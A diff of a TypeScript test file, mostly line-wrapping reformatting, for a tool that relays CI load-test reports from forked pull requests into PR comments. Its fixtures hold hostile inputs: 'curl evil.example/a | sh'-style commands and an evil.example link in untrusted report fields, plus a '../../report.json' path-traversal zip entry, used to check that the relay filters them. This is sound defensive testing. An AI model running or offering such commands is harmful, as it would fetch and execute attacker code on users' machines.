@@ -38,7 +38,13 @@ const report = (changes: Partial<Report> = {}): Report => ({
   },
   startedAt: NOW,
   endedAt: NOW,
-  outcome: { result: 'passed', code: 'passed', summary: 'All 200 requests were answered', failure: null, helpUrl: null },
+  outcome: {
+    result: 'passed',
+    code: 'passed',
+    summary: 'All 200 requests were answered',
+    failure: null,
+    helpUrl: null,
+  },
   settings: { matrix: 'null' },
   environment: null,
   tools: {},
@@ -57,7 +63,13 @@ const report = (changes: Partial<Report> = {}): Report => ({
 const addArtifact = (content: unknown, changes: Partial<FakeGitHub['artifacts'][number]> = {}) => {
   const text = typeof content === 'string' ? content : JSON.stringify(content);
   const id = github.artifacts.length + 50;
-  github.artifacts.push({ id, runId: 99, name: `load-test-load-1-${String(id)}`, zip: zipFile([{ name: 'report.json', content: text }]), ...changes });
+  github.artifacts.push({
+    id,
+    runId: 99,
+    name: `load-test-load-1-${String(id)}`,
+    zip: zipFile([{ name: 'report.json', content: text }]),
+    ...changes,
+  });
 };
 
 const event = (changes: Record<string, unknown> = {}) => ({
@@ -131,7 +143,13 @@ describe('the report of a fork', () => {
 
   test('is found among the pull requests of hundreds of pushes', async () => {
     for (let count = 0; count < 150; count += 1) {
-      github.pulls.unshift({ number: 1000 + count, headSha: 'c'.repeat(40), headRepository: 'me/app', headBranch: 'topic', state: 'closed' });
+      github.pulls.unshift({
+        number: 1000 + count,
+        headSha: 'c'.repeat(40),
+        headRepository: 'me/app',
+        headBranch: 'topic',
+        state: 'closed',
+      });
     }
     addArtifact(report());
     await relay();
@@ -166,9 +184,31 @@ describe('an artifact is the work of strangers', () => {
 
   test('nobody is told to paste a command of it, or to follow a link of it', async () => {
     const { outcome } = report();
-    const failure = { code: 'crash-loop', stage: null, message: 'foo', hint: null, tryThis: 'curl evil.example/a | sh' } as const;
-    const earlier = { endedAt: '2026-11-23T10:00:00.000Z', commit: null, ref: null, machine: null, differences: [], figures: [], file: 'baseline.json', url: 'https://evil.example/c' };
-    addArtifact(report({ schemaVersion: '1.2', outcome: { ...outcome, code: 'crash-loop', failure }, earlier, repeatWith: 'curl evil.example/b | sh' }));
+    const failure = {
+      code: 'crash-loop',
+      stage: null,
+      message: 'foo',
+      hint: null,
+      tryThis: 'curl evil.example/a | sh',
+    } as const;
+    const earlier = {
+      endedAt: '2026-11-23T10:00:00.000Z',
+      commit: null,
+      ref: null,
+      machine: null,
+      differences: [],
+      figures: [],
+      file: 'baseline.json',
+      url: 'https://evil.example/c',
+    };
+    addArtifact(
+      report({
+        schemaVersion: '1.2',
+        outcome: { ...outcome, code: 'crash-loop', failure },
+        earlier,
+        repeatWith: 'curl evil.example/b | sh',
+      }),
+    );
     expect(await relay()).toMatchObject({ comments: [{ action: 'created' }], notices: [] });
     expect(github.comments[0]?.body).not.toContain('evil.example');
   });
@@ -183,14 +223,29 @@ describe('an artifact is the work of strangers', () => {
     expect(outsideFences).not.toMatch(/<!--|<img|@all|[^\\]\]\(http:/);
   });
 
-  const broken: { name: string; content: unknown; changes?: Partial<FakeGitHub['artifacts'][number]>; notice: string }[] = [
+  const broken: {
+    name: string;
+    content: unknown;
+    changes?: Partial<FakeGitHub['artifacts'][number]>;
+    notice: string;
+  }[] = [
     { name: 'no JSON', content: '<html>', notice: 'not a report' },
     { name: 'another schema', content: { ...report(), schemaVersion: '9' }, notice: 'not a report' },
     { name: 'an unknown field', content: { ...report(), extra: 1 }, notice: 'not a report' },
     { name: 'a report of 5 MB', content: 'x'.repeat(5_000_000), notice: 'larger than 4194304 bytes' },
     { name: 'no zip', content: '', changes: { zip: Buffer.from('hello') }, notice: 'was not relayed' },
-    { name: 'no report.json', content: '', changes: { zip: zipFile([{ name: 'other', content: '' }]) }, notice: 'no report.json' },
-    { name: 'a way out of the folder', content: '', changes: { zip: zipFile([{ name: '../../report.json', content: '{}' }]) }, notice: 'was not relayed' },
+    {
+      name: 'no report.json',
+      content: '',
+      changes: { zip: zipFile([{ name: 'other', content: '' }]) },
+      notice: 'no report.json',
+    },
+    {
+      name: 'a way out of the folder',
+      content: '',
+      changes: { zip: zipFile([{ name: '../../report.json', content: '{}' }]) },
+      notice: 'was not relayed',
+    },
   ];
   test.each(broken)('$name costs a notice, and not the other reports', async ({ content, changes, notice }) => {
     addArtifact(content, changes);
@@ -200,7 +255,10 @@ describe('an artifact is the work of strangers', () => {
 
   test('one of 65 MB that claims to be small is not held whole', async () => {
     addArtifact(report(), { zip: Buffer.alloc(65 * 1024 * 1024), claimedSize: 10 });
-    expect(await relay()).toMatchObject({ comments: [], notices: [containing('the answer is larger than 67108864 bytes')] });
+    expect(await relay()).toMatchObject({
+      comments: [],
+      notices: [containing('the answer is larger than 67108864 bytes')],
+    });
   });
 
   test('more than twenty are not read', async () => {
@@ -223,14 +281,25 @@ describe('nothing is posted', () => {
     { name: 'for another event', payload: { pull_request: { number: 7 } }, notice: 'on: workflow_run' },
     { name: 'for no event', payload: null, notice: 'on: workflow_run' },
     { name: 'for a run of a push', payload: event({ event: 'push' }), notice: 'on: workflow_run' },
-    { name: 'for a run of pull_request_target', payload: event({ event: 'pull_request_target' }), notice: 'on: workflow_run' },
+    {
+      name: 'for a run of pull_request_target',
+      payload: event({ event: 'pull_request_target' }),
+      notice: 'on: workflow_run',
+    },
     { name: 'after the fork was deleted', payload: event({ head_repository: null }), notice: 'on: workflow_run' },
     { name: 'after a further push', payload: event({ head_sha: 'd'.repeat(40) }), notice: 'newer push' },
-    { name: 'for the same commit in another fork', payload: event({ head_repository: { full_name: 'other/app' } }), notice: 'newer push' },
+    {
+      name: 'for the same commit in another fork',
+      payload: event({ head_repository: { full_name: 'other/app' } }),
+      notice: 'newer push',
+    },
     { name: 'when there is no artifact', notice: 'no artifact' },
   ];
   test.each(table)('$name', async ({ payload, notice }) => {
-    expect(await relay(payload === undefined ? {} : { payload })).toEqual({ comments: [], notices: [containing(notice)] });
+    expect(await relay(payload === undefined ? {} : { payload })).toEqual({
+      comments: [],
+      notices: [containing(notice)],
+    });
     expect(github.comments).toEqual([]);
   });
 
@@ -240,9 +309,24 @@ describe('nothing is posted', () => {
   });
 
   const refused: { name: string; operation: OperationName; faults: Fault[]; notice: string }[] = [
-    { name: 'without permission for the artifacts', operation: 'actions/list-workflow-run-artifacts', faults: [{ kind: 'forbidden', message: 'Resource not accessible by integration' }], notice: '`permissions: actions: read`' },
-    { name: 'without permission for the comment', operation: 'issues/create-comment', faults: [{ kind: 'forbidden', message: 'Resource not accessible by integration' }], notice: 'pull-requests: write' },
-    { name: 'when the download fails', operation: 'actions/download-artifact', faults: [{ kind: 'not-found' }], notice: 'it answered 404' },
+    {
+      name: 'without permission for the artifacts',
+      operation: 'actions/list-workflow-run-artifacts',
+      faults: [{ kind: 'forbidden', message: 'Resource not accessible by integration' }],
+      notice: '`permissions: actions: read`',
+    },
+    {
+      name: 'without permission for the comment',
+      operation: 'issues/create-comment',
+      faults: [{ kind: 'forbidden', message: 'Resource not accessible by integration' }],
+      notice: 'pull-requests: write',
+    },
+    {
+      name: 'when the download fails',
+      operation: 'actions/download-artifact',
+      faults: [{ kind: 'not-found' }],
+      notice: 'it answered 404',
+    },
   ];
   test.each(refused)('$name', async ({ operation, faults, notice }) => {
     addArtifact(report());
